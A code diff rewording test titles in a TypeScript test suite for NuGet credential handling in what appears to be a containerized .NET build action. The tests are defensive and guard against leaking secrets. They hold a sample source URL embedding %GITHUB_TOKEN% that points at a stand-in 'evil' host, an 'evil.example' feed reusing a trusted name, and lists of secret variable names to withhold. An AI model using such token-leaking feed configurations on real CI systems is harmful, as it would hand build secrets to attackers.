@@ -13,7 +13,7 @@ import { checkWithheld } from '#publish/phases/withheld.ts';
 import { planFor } from '../../world/builds.ts';
 import { memoryLog } from '../../world/memory-log.ts';
 
-/** What .NET's XmlConvert.DecodeName does. */
+/** Decodes as .NET's XmlConvert.DecodeName does. */
 const decodeXmlName = (name: string): string =>
   name.replace(/_x([0-9A-Fa-f]{4}(?:[0-9A-Fa-f]{4})?)_/g, (_, hex: string) =>
     String.fromCodePoint(Number.parseInt(hex, 16)),
@@ -44,20 +44,20 @@ describe('nuget-credentials', () => {
   const login = { username: 'me', password: 'p&"<' };
   const sources = [{ name: 'My Feed', value: 'https://feed.example/v3/index.json' }];
 
-  test('name a source in any case', () => {
+  test('name a source in any letter case', () => {
     const { text, unknown } = credentialsConfig([{ ...login, source: 'my feed' }], sources);
     expect(unknown).toEqual([]);
     expect(text).toContain('<My_x0020_Feed>');
     expect(text).toContain('value="p&amp;&quot;&lt;"');
   });
 
-  test('or its URL', () => {
+  test('name a source by its URL', () => {
     const { text } = credentialsConfig([{ ...login, source: 'https://FEED.example/v3/index.json/' }], sources);
     expect(text).toContain('<My_x0020_Feed>');
     expect(text).not.toContain('<packageSources>');
   });
 
-  test('a URL that nobody has becomes a source', () => {
+  test('add a source for a URL that no source has', () => {
     const { text } = credentialsConfig([{ ...login, source: 'http://127.0.0.1:5/v3/index.json' }], sources);
     expect(readNuGetConfig(text)).toMatchObject({
       sources: [{ name: 'containerize-dotnet-1', value: 'http://127.0.0.1:5/v3/index.json' }],
@@ -66,7 +66,7 @@ describe('nuget-credentials', () => {
     expect(text).toContain('allowInsecureConnections="true"');
   });
 
-  test('a login by address skips a source that has the address under another name too', () => {
+  test('never go to a source whose name has another address in a nearer configuration', () => {
     const wanted = 'https://feed.example/v3/index.json';
     const evil = 'https://evil.example/v3/index.json';
     const both = [
@@ -80,7 +80,7 @@ describe('nuget-credentials', () => {
     expect(text).not.toContain('<My_x0020_Feed>');
   });
 
-  test('a login goes before one that a configuration of the repository has', () => {
+  test('override a login for the same source in a configuration of the repository', () => {
     const access = { configs: [], environment: {}, credentials: [{ ...login, source: 'My Feed' }] };
     const own = '<packageSources><add key="my feed" value="https://feed.example/" /></packageSources>';
     const nearer = `<configuration>${own}<packageSourceCredentials><my_x0020_feed><add key="Password" value="x" /></my_x0020_feed></packageSourceCredentials></configuration>`;
@@ -93,7 +93,7 @@ describe('nuget-credentials', () => {
     );
   });
 
-  test('a name that nobody has is told', () => {
+  test('report a name that no source has', () => {
     expect(credentialsConfig([{ ...login, source: 'other' }], sources).unknown).toEqual(['other']);
   });
 
@@ -119,7 +119,7 @@ describe("the runner's own NuGet configuration", () => {
     `<configuration><packageSources><add key="a" value="https://a.example/index.json" /></packageSources>
      <packageSourceCredentials><a><add key="Username" value="u" /><add key="ClearTextPassword" value="${password}" /></a></packageSourceCredentials></configuration>`;
 
-  test('is what lies above the checkout, then the user, with the variables they mention', async () => {
+  test('is read above the checkout, then of the user, with the variables it mentions', async () => {
     const root = join(folder, 'work/checkout');
     await mkdir(join(root, 'src/App'), { recursive: true });
     await mkdir(join(folder, 'home/.nuget/NuGet'), { recursive: true });
@@ -154,7 +154,7 @@ describe("the runner's own NuGet configuration", () => {
     );
   });
 
-  describe('lends nothing to a pull request that mentions', () => {
+  describe('gives nothing to a pull request that mentions', () => {
     const OTHERS = ['ACTIONS_RUNTIME_TOKEN', 'INPUT_PASSWORD', 'STATE_folder', 'RUNNER_TOKEN', 'GITHUB_TOKEN'];
     const CLOUDS = ['GH_TOKEN', 'GITHUB_APP_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'AZURE_CLIENT_SECRET', 'GOOGLE_OAUTH'];
     const MORE = ['DOCKER_PASSWORD', 'VAULT_TOKEN', 'NPM_TOKEN', 'aws_session_token'];
@@ -179,7 +179,7 @@ describe("the runner's own NuGet configuration", () => {
       expect(found).toMatchObject({ environment: {}, withheld: [name] });
     });
 
-    test('a variable that the workflow did not name, and says which line would name it', async () => {
+    test('a variable that the workflow did not name, and suggests the line that names it', async () => {
       const env = { FEED_KEY: '1', OTHER: '2', THIRD: '3', NUGET_AUTH_TOKEN: '4' };
       const files = { 'work/checkout/nuget.config': source('FEED_KEY%/%OTHER%/%NUGET_AUTH_TOKEN%/%NOT_THERE') };
       const found = await read(env, files, ['THIRD', 'OTHER']);
@@ -197,7 +197,7 @@ describe("the runner's own NuGet configuration", () => {
       expect(() => checkWithheld(found, { ...plan, secrets: ['FEED_KEY@file'] })).toThrow(/mentions %FEED_KEY%/);
     });
 
-    test('a source’s password, with the login that would do; with it nothing is missing', async () => {
+    test('a password of a source, and suggests a login, with which nothing is missing', async () => {
       const login =
         '<my_x0020_feed><add key="Username" value="me" /><add key="ClearTextPassword" value="%GITHUB_TOKEN%" /></my_x0020_feed>';
       const sources = '<packageSources><add key="my feed" value="https://feed.corp/index.json" /></packageSources>';
@@ -214,7 +214,7 @@ describe("the runner's own NuGet configuration", () => {
       }
       const credentials = [{ source: 'other', username: 'me', password: 'p' }];
       expect(() => checkWithheld({ ...found, credentials }, plan)).toThrow();
-      // An address with the token in it goes somewhere without any login.
+      // An address that contains the token sends it elsewhere without any login.
       const more = text.replace(
         '</packageSources>',
         '<add key="x" value="https://evil/%GITHUB_TOKEN%/" /></packageSources>',
@@ -224,19 +224,19 @@ describe("the runner's own NuGet configuration", () => {
       expect(() => checkWithheld({ ...both, credentials: own }, plan)).toThrow('%GITHUB_TOKEN%');
     });
 
-    test('what is empty, or means something else in the container, without an error', async () => {
+    test('an empty variable or one of the container itself, without an error', async () => {
       const files = { 'work/checkout/nuget.config': source('FEED_KEY%/%HOME%/%PATH') };
       const found = await read({ FEED_KEY: '', HOME: '/home/runner', PATH: '/bin' }, files);
       expect(found.environment).toEqual({});
       expect(() => checkWithheld(found, planFor('/checkout', 'App.csproj'))).not.toThrow();
     });
 
-    test('any of them in a checkout around a submodule', async () => {
+    test('any of them in the checkout around a submodule', async () => {
       const env = { GITHUB_TOKEN: 'value-of-it', GITHUB_WORKSPACE: join(folder, 'work') };
       expect(await read(env, { 'work/nuget.config': source('GITHUB_TOKEN') })).toMatchObject({ environment: {} });
     });
 
-    test("but what the runner's own configuration mentions, it is", async () => {
+    test("a variable, which is passed if the runner's own configuration mentions it", async () => {
       const env = { GITHUB_TOKEN: 'value-of-it', GITHUB_WORKSPACE: join(folder, 'work/checkout') };
       const files = { 'work/nuget.config': config('%GITHUB_TOKEN%'), 'work/checkout/nuget.config': source('NONE') };
       const found = await read(env, files);
@@ -244,7 +244,7 @@ describe("the runner's own NuGet configuration", () => {
     });
   });
 
-  test('hides what it passes, but no switch that the rest of the log would miss', () => {
+  test('masks what it passes, but no switches, which are common words in the log', () => {
     const log = memoryLog();
     const environment = { FEED: 'feed.internal', NUGET_CREDENTIALPROVIDER_X: 'true', HOME: '/home/runner' };
     maskNuGet({ configs: [], credentials: [], environment }, log);
@@ -252,12 +252,12 @@ describe("the runner's own NuGet configuration", () => {
   });
 });
 
-test('a variable that means something else in the container stays what it is there', () => {
+test('a variable with another meaning in the container keeps the container’s value', () => {
   const wanted = { HOME: '/home/runner', PATH: '/bin', TOKEN: 'x' };
   expect(restoreEnvironment(wanted, buildEnvironment({}, {}))).toEqual({ TOKEN: 'x' });
 });
 
-test('of the runner, only proxies (in both spellings) get into the clean environment', () => {
+test('only proxies of the runner, in both spellings, get into the environment', () => {
   const runner = { HTTPS_PROXY: 'http://p:1', no_proxy: 'x', GITHUB_TOKEN: 'secret', HOME: '/home/runner' };
   const env = buildEnvironment(runner, { MINE: '1', CI: 'no' });
   expect(env).toMatchObject({
@@ -298,7 +298,7 @@ describe('the network of the build', () => {
   };
 
   test.each([LOCAL, 'https://127.0.0.2/x', 'http://[::1]:80/', 'http://feed.localhost/x'])(
-    'is for the workflow to choose where the runner’s own configuration names %s',
+    'must be chosen by the workflow if the runner’s configuration names %s',
     (address) => {
       expect(check({ runner: source(address) })).toThrow(
         expect.objectContaining({
@@ -318,25 +318,25 @@ describe('the network of the build', () => {
     ['a registry of npm', { buildEnv: { npm_config_registry: 'http://localhost:4873' } }],
     ['a login for a feed', { login: LOCAL }],
     ['a variable of the runner’s configuration', { runner: source('%FEED%'), variables: { FEED: LOCAL } }],
-  ])('is for the workflow to choose where the runner or an input names it as %s', (_what, said) => {
+  ])('must be chosen by the workflow if the runner or an input names it as %s', (_what, said) => {
     expect(check(said)).toThrow(expect.objectContaining({ code: 'NETWORK_UNREACHABLE' }));
   });
 
   test.each<[string, Said]>([
-    ['what the repository names', { repository: source(LOCAL) }],
-    ['what a checkout around a submodule names', { runner: source(LOCAL), inWorkspace: true }],
+    ['sources of the repository', { repository: source(LOCAL) }],
+    ['sources of a checkout around a submodule', { runner: source(LOCAL), inWorkspace: true }],
     ['other machines', { runner: source('https://api.nuget.org/v3/index.json'), env: { HTTP_PROXY: 'http://p:1' } }],
     ['folders', { runner: source('../packages') }],
-    ['what proxies are to be left out for', { env: { NO_PROXY: 'localhost:1' } }],
+    ['hosts in NO_PROXY', { env: { NO_PROXY: 'localhost:1' } }],
     [
-      'what the repository leaves out',
+      'sources that the repository clears',
       { runner: source(LOCAL), repository: config('<packageSources><clear /></packageSources>') },
     ],
     [
-      'what the repository replaces',
+      'sources that the repository replaces',
       { runner: source(LOCAL), repository: source('https://feeds.example/v3/index.json') },
     ],
-  ])('is not in doubt for %s', (_what, said) => {
+  ])('is not checked for %s', (_what, said) => {
     expect(check(said)).not.toThrow();
   });
 });
